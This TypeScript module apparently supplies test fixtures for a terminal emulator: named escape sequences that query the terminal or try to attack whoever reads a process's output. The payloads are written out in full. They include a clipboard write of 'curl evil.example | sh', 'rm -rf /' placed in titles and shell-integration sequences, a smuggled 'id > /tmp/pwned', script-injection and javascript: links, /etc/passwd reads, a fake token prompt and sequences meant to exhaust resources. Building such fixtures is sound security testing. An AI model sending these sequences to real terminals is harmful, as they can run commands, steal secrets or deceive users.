// Named outputs with which a process may attack its readers; none may have an effect beyond the process's pane.

const ESC = '\u001b';
const CSI = `${ESC}[`;
const OSC = `${ESC}]`;
const ST = `${ESC}\\`;
const BEL = '\u0007';
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Sequences that a terminal answers by sending input to the program. */
export const QUERIES: { readonly [name: string]: string } = {
  'primary attributes': `${CSI}c${CSI}0c${ESC}Z`,
  'secondary attributes': `${CSI}>c${CSI}>0c`,
  'tertiary attributes': `${CSI}=c`,
  status: `${CSI}5n`,
  'cursor position': `${CSI}6n${CSI}?6n`,
  'colour scheme': `${CSI}?996n`,
  'a mode': `${CSI}4$p${CSI}?25$p${CSI}?2026$p`,
  'a setting': `${ESC}P$qm${ST}${ESC}P$q"p${ST}${ESC}P$qr${ST}`,
  'a setting that is a command': `${ESC}P$q\nid > /tmp/pwned\n${ST}`,
  version: `${CSI}>q${CSI}>0q`,
  'terminal parameters': `${CSI}x${CSI}1x`,
  'a checksum of the screen': `${CSI}1;1;1;1;5;10*y`,
  'capabilities by name': `${ESC}P+q544e${ST}`,
  colours: `${OSC}4;1;?${BEL}${OSC}4;1;?;2;?${ST}${OSC}10;?${BEL}${OSC}11;?${BEL}${OSC}12;?${BEL}${OSC}10;?;?;?${ST}`,
  'the clipboard': `${OSC}52;c;?${BEL}${OSC}52;p;?${ST}`,
  'window size': [11, 13, 14, 15, 16, 18, 19].map((what) => `${CSI}${what}t`).join(''),
  'its own title': `${OSC}2;rm -rf /\n${BEL}${CSI}20t${CSI}21t`,
  'keyboard protocol': `${CSI}?u${CSI}>4;2m${CSI}?4m`,
  'answer back': '\u0005',
  'graphics protocol': `${ESC}_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA${ST}`,
  'a file (iTerm2)': `${OSC}1337;ReportCellSize${BEL}${OSC}1337;RequestUpload=format=tgz${BEL}`,
};

/** Output that attempts more than drawing, or that is expensive or misleading to draw. */
export const ATTACKS: { readonly [name: string]: string } = {
  'clipboard write': `${OSC}52;c;${base64('curl evil.example | sh\n')}${BEL}`,
  'title as markup': `${OSC}0;<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>${BEL}`,
  'title with hidden characters': `${OSC}2;safe\u202etxt.exe\u2066\u200b${BEL}`,
  'icon title': `${OSC}1;(99) Bank${BEL}`,
  notifications: `${OSC}9;<b>Sign in</b> at https://evil.example${BEL}${OSC}777;notify;exec-console;Your token has expired${BEL}`,
  markup:
    '<script>window.hacked=1</script><img src=//evil.example/x onerror=window.hacked=1><iframe src=//evil.example>\r\n',
  'a link that runs code': `${OSC}8;;javascript:window.hacked=1${ST}click${OSC}8;;${ST}${OSC}8;;data:text/html,<script>opener.hacked=1</script>${ST}here${OSC}8;;${ST}${OSC}8;;file:///etc/passwd${ST}now${OSC}8;;${ST}`,
  'a link with misleading text': `${OSC}8;;https://evil.example/${ST}https://bank.example/${OSC}8;;${ST}`,
  'working directory': `${OSC}7;file://evil.example/etc${ST}${OSC}9;9;\\\\evil.example\\share${ST}`,
  'shell integration': `${OSC}133;A${ST}${OSC}633;E;rm -rf /;nonce${ST}${OSC}633;P;Cwd=/${ST}`,
  sixel: `${ESC}Pq#0;2;0;0;0#0!99999999~$-${'~'.repeat(2000)}${ST}`,
  'inline image': `${OSC}1337;File=inline=1;width=99999px;height=99999px:${base64('GIF89a')}${BEL}`,
  'kitty image from a file': `${ESC}_Ga=T,f=100,t=f;${base64('/etc/passwd')}${ST}`,
  'resize and move the window': `${CSI}8;9999;9999t${CSI}3;0;0t${CSI}2t${CSI}9;1t${CSI}10;1t`,
  'print the screen': `${CSI}5i${CSI}4i${CSI}?5i`,
  'load keys': `${ESC}P1;1|17/${Buffer.from('id\n').toString('hex')}${ST}`,
  'repeat without end': `x${CSI}2147483647b${CSI}999999999b`,
  'scroll without end': `${CSI}1;99999r${CSI}999999999S${CSI}999999999T${CSI}999999999L${CSI}999999999M${CSI}r`,
  'move without end': `${CSI}999999999;999999999H${CSI}2147483648A${CSI}-5B${CSI}999999999@${CSI}999999999P${CSI}999999999X${CSI}1;1H`,
  'parameters without end': `${CSI}${'1;'.repeat(20_000)}m${CSI}${'9'.repeat(20_000)}m${CSI}38;2;${'4294967295:'.repeat(2000)}m`,
  'tabs without end': `${CSI}3g${`${ESC}H `.repeat(500)}${CSI}999999999I${CSI}999999999Z`,
  'thousands of marks in one cell': `e${'\u0301'.repeat(20_000)}`,
  'thousands of characters without width': `${'\u200b\u200d\u2060\ufeff'.repeat(5000)}${'\ud83d\udc69\u200d'.repeat(3000)}`,
  'right-to-left text': 'invoice\u202efdp.exe\u202c \u2067abc\u2069 \u061c\r\n',
  'control characters and a noncharacter': '\u0000\u0080\u0090\u0098\u009b31m\u009d0;c1 title\u009c\uffff',
  'save and restore without end': `${ESC}7${CSI}s${CSI}?1049h${CSI}?1049l`.repeat(500),
  'modes that send input': `${CSI}?1000h${CSI}?1002h${CSI}?1003h${CSI}?1006h${CSI}?1004h${CSI}?2004h${CSI}?1007h${CSI}?9h`,
  'modes that hide text': `${CSI}?25l${CSI}8m${CSI}?5h${CSI}?5l`,
  'a fake prompt': `${CSI}2J${CSI}HThe gateway has stopped. Enter your token: `,
  'graphics in place of letters': `${ESC}(0${ESC})0\u000eqqqq\u000f${ESC}%G${ESC}%@`,
  'a string without an end': `${OSC}2;${'A'.repeat(100_000)}`,
  'a device string without an end': `${ST}${ESC}P1$r${'B'.repeat(100_000)}`,
  'the end of the string, and a reset': `${ST}${BEL}${ESC}c`,
};
